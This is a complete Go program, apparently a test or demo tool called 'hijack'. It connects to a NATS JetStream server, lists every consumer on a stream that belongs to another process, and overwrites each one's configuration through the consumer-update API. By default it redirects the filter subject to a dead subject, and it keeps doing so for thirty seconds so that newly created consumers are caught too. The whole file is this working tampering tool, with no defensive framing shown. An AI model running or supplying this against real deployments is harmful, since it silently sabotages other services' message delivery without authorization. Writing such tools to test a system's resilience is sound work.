// hijack: a tool updates every consumer of a stream it did not create (the daemon's)
// through CONSUMER.CREATE with action "update": hijack -stream SCOREBOARD -set '{"filter_subject":"scoreboard.result.none.none"}' -secs 30
package main

import (
	"encoding/json"
	"flag"
	"fmt"
	"log"
	"time"

	"github.com/nats-io/nats.go"
)

func main() {
	url := flag.String("url", "nats://127.0.0.1:14222", "")
	stream := flag.String("stream", "SCOREBOARD", "")
	set := flag.String("set", `{"filter_subject":"scoreboard.result.none.none"}`, "fields to change")
	secs := flag.Int("secs", 30, "keep doing it for this long (new consumers too)")
	flag.Parse()
	nc, err := nats.Connect(*url)
	if err != nil {
		log.Fatal(err)
	}
	var change map[string]any
	if err := json.Unmarshal([]byte(*set), &change); err != nil {
		log.Fatal(err)
	}
	done := map[string]bool{}
	for end := time.Now().Add(time.Duration(*secs) * time.Second); time.Now().Before(end); time.Sleep(300 * time.Millisecond) {
		m, err := nc.Request("$JS.API.CONSUMER.LIST."+*stream, nil, 2*time.Second)
		if err != nil {
			continue
		}
		var r struct {
			Consumers []struct {
				Name   string
				Config map[string]any
			}
		}
		json.Unmarshal(m.Data, &r)
		for _, c := range r.Consumers {
			if done[c.Name] {
				continue
			}
			cfg := c.Config
			for k, v := range change {
				cfg[k] = v
			}
			if _, ok := change["filter_subject"]; ok {
				delete(cfg, "filter_subjects")
			}
			req, _ := json.Marshal(map[string]any{"stream_name": *stream, "config": cfg, "action": "update"})
			resp, err := nc.Request("$JS.API.CONSUMER.CREATE."+*stream+"."+c.Name, req, 2*time.Second)
			if err != nil {
				log.Print(err)
				continue
			}
			done[c.Name] = true
			fmt.Printf("%s: %.300s\n", c.Name, resp.Data)
		}
	}
}
